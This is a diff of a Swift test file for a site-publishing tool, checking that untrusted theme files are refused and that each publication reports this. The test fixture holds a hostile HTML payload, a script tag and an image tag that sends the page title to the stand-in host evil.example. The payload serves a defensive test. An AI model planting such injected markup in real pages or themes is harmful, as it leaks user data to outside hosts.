@@ -124,7 +124,7 @@ import Testing
     #expect(!session.folder.files().contains("Memo/A.md"))
   }
 
-  @Test func `a theme that is not trusted is not used, and that is reported once`() throws {
+  @Test func `a theme that is not trusted is not used, and every publication says so`() throws {
     let hostile = "<script>fetch('/')</script><img src='https://evil.example/{{title}}'>"
     for name in ["page.html", "note.html", "style.css", "more.css", "sub/x.html", "a.js"] {
       try session.folder.write(hostile, to: ".sheaf/theme/" + name)
@@ -148,7 +148,7 @@ import Testing
           .sheaf/theme/style.css
           .sheaf/theme/sub/x.html
         """))
-    #expect(!(try site().errors.contains("theme")))
+    #expect(try site().errors.contains("used only in a repository that you trust"))
     _ = session.run(["config", "trust"])
     #expect(try site().isHostile)
     try session.folder.write(hostile + "!", to: ".sheaf/theme/sub/x.html")
